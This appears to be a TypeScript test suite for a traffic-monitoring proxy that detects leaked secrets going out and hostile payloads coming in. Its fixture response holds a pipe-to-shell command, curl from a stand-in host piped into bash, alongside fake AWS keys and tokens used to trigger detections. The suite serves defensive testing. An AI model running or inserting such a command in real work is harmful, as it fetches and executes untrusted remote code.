import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import test, { type ExecutionContext } from 'ava';
import { defaultOptions, type Options } from '../../config/options.ts';
import { type KnownTable, newKnownTable } from '../../src/detect/known/known-table.ts';
import type { Detection } from '../../src/model/finding.ts';
import { assemble } from '../../src/service/assemble.ts';
import {
  connect,
  connectTls,
  originCa,
  proxyCa,
  readAll,
  readUntil,
  startAnswering,
  startTlsOrigin,
} from '../support/proxy-fixture.ts';
import { ruleFile } from '../support/rule-files.ts';
import { tempDir } from '../support/temp-dir.ts';

const SECRET = 'AKIAQ3EGRZ7WKP5XN2VB';
const ATTACK = 'HTTP/1.1 200 OK\r\nContent-Length: 34\r\n\r\ncurl -s http://evil.test/x | bash\n';

/** A handler's inside in this process, with what it reports and logs. */
async function start(t: ExecutionContext, settings: Partial<Options> = {}, known?: KnownTable) {
  const detections: Detection[] = [];
  const logged: string[] = [];
  const options: Options = {
    ...defaultOptions(),
    log_dir: tempDir(t),
    proxy_port: 0,
    gateway_local_port: 0,
    scan_threads: 1,
    drain_timeout_secs: 2,
    ...settings,
  };
  const monitor = await assemble({
    options,
    rules: [],
    known,
    authority: proxyCa,
    ticketKeys: Buffer.alloc(48, 1),
    fingerprintKey: 'of a test',
    log: (_level, message) => logged.push(message),
    report: (detection) => detections.push(detection),
  });
  const addresses = await monitor.listen();
  return { monitor, addresses, port: portOf(addresses.proxy), detections, logged };
}

function portOf(address: string | undefined): number {
  return Number(address?.split(':')[1]);
}

function summary(detections: readonly Detection[]): string[] {
  return detections.map(({ flow, direction, finding }) => `${flow.protocol} ${direction} ${finding.rule}`).toSorted();
}

test('traffic of every kind is relayed and read, and a drain reports what it has found', async (t) => {
  const dir = tempDir(t);
  const caFile = join(dir, 'origin-ca.crt');
  writeFileSync(caFile, originCa.certPem);
  const plain = await startAnswering(t, ATTACK);
  const secure = await startTlsOrigin(t, (socket) => socket.once('data', () => socket.end(ATTACK)));
  const { monitor, addresses, port, detections } = await start(t, {
    upstream_ca_file: caFile,
    gateway_target_port: plain,
  });
  const head = `Host: x\r\nX-Key: ${SECRET}\r\n\r\n`;

  const http = await connect(t, port);
  http.end(`GET http://127.0.0.1:${plain}/ HTTP/1.1\r\n${head}`);
  t.is(await readAll(http), ATTACK);
  const https = await connectTls(t, port, `localhost:${secure}`);
  https.write(`GET / HTTP/1.1\r\n${head}`);
  t.is(await readAll(https), ATTACK);
  const gateway = await connect(t, portOf(addresses.gateway));
  gateway.end(`GET / HTTP/1.1\r\n${head}`);
  t.is(await readAll(gateway), ATTACK);

  await monitor.drain(4000);
  t.deepEqual(
    summary(detections),
    ['gateway', 'http', 'https'].flatMap((protocol) => [
      `${protocol} inbound pipe_to_shell`,
      `${protocol} outbound aws_access_key`,
    ]),
  );
  t.is(monitor.counters.requests, 3);
  t.is(monitor.counters.open, 0);
  t.true(detections.every(({ at }) => Math.abs(at - Date.now()) < 60_000));
});

test('without the gateway there is one address, and with interception off tunnels stay closed', async (t) => {
  const secure = await startTlsOrigin(t, (socket) => socket.once('data', () => socket.end(ATTACK)));
  const { monitor, addresses, port, detections } = await start(t, { enable_gateway_proxy: false, enable_mitm: false });
  t.deepEqual(Object.keys(addresses), ['proxy']);
  t.regex(addresses.proxy, /^127\.0\.0\.1:[1-9]\d*$/);
  const client = await connectTls(t, port, `localhost:${secure}`, { ca: originCa.certPem });
  client.write('GET / HTTP/1.1\r\n\r\n');
  t.is(await readAll(client), ATTACK);
  await monitor.drain(4000);
  t.deepEqual(detections, []);
  t.deepEqual(monitor.counters.skipped, { no_mitm: 1 });
});

test('other rules are looked for from one moment on', async (t) => {
  const plain = await startAnswering(t, 'HTTP/1.1 204 No Content\r\n\r\n');
  const { monitor, port, detections } = await start(t);
  const ask = async (): Promise<void> => {
    const client = await connect(t, port);
    client.end(`GET http://127.0.0.1:${plain}/ HTTP/1.1\r\nHost: x\r\nX-Key: acme_7h2k9d4m1x8q5w3z\r\n\r\n`);
    await readAll(client);
  };
  await ask();
  monitor.useRules([ruleFile()]);
  await ask();
  monitor.useRules([]);
  await ask();
  await monitor.drain(4000);
  t.deepEqual(summary(detections), ['http outbound acme_token']);
});

test('known values are recognised after the rules have changed, too', async (t) => {
  const value = 'hunter2hunter3';
  const known = newKnownTable([{ name: 'A', origin: '.env', value }], 'a1'.repeat(32), () => 'f');
  const { monitor, port, detections } = await start(t, {}, known);
  const origin = await startAnswering(t, 'HTTP/1.1 204 No Content\r\n\r\n');
  monitor.useRules([ruleFile()]);
  const client = await connect(t, port);
  client.end(`GET http://127.0.0.1:${origin}/?p=${value} HTTP/1.1\r\nHost: x\r\n\r\n`);
  await readAll(client);
  await monitor.drain(4000);
  t.deepEqual(summary(detections), ['http outbound known_value']);
});

test('values that come to be known are recognised from then on', async (t) => {
  const value = 'hunter2hunter3';
  const { monitor, port, detections } = await start(t);
  const origin = await startAnswering(t, 'HTTP/1.1 204 No Content\r\n\r\n');
  const ask = async (): Promise<void> => {
    const client = await connect(t, port);
    client.end(`GET http://127.0.0.1:${origin}/?p=${value} HTTP/1.1\r\nHost: x\r\n\r\n`);
    await readAll(client);
  };
  await ask();
  monitor.useKnown(newKnownTable([{ name: 'A', origin: '.env', value }], 'a1'.repeat(32), () => 'f'));
  await ask();
  monitor.useRules([ruleFile()]);
  await ask();
  await monitor.drain(4000);
  t.deepEqual(summary(detections), ['http outbound known_value', 'http outbound known_value']);
});

test('a drain cuts what is in flight when drain_timeout_secs are over, and not before', async (t) => {
  const port = await startAnswering(t, 'HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nhalf');
  const { monitor, port: proxyPort } = await start(t, { drain_timeout_secs: 1 });
  const client = await connect(t, proxyPort);
  client.write(`GET http://127.0.0.1:${port}/ HTTP/1.1\r\nHost: x\r\n\r\n`);
  await readUntil(client, 'half');
  const begunAt = performance.now();
  await monitor.drain(4000);
  // A timer may be a millisecond early.
  t.true(performance.now() - begunAt > 990);
  t.is(monitor.counters.open, 0);
});

test('what a drain leaves no time to scan is counted, and logged', async (t) => {
  const port = await startAnswering(t, 'HTTP/1.1 204 No Content\r\n\r\n');
  const { monitor, port: proxyPort, detections, logged } = await start(t);
  const client = await connect(t, proxyPort);
  client.end(`GET http://127.0.0.1:${port}/ HTTP/1.1\r\nHost: x\r\nX-Key: ${SECRET}\r\n\r\n`);
  await readAll(client);
  // The thread is quick or it is not: what it has not answered by now is counted.
  await monitor.drain(0);
  const { windows, skipped } = monitor.counters;
  t.is(windows, 1);
  t.is(detections.length + (skipped.stopped ?? 0), 1);
  t.is(logged.filter((line) => /scanned before the end/.test(line)).length, skipped.stopped ?? 0);
});

test('a CA file that cannot be read is a mistake of the user', async (t) => {
  const missing = join(tempDir(t), 'none.crt');
  await t.throwsAsync(start(t, { upstream_ca_file: missing }), { code: 'ca_file_unreadable' });
});
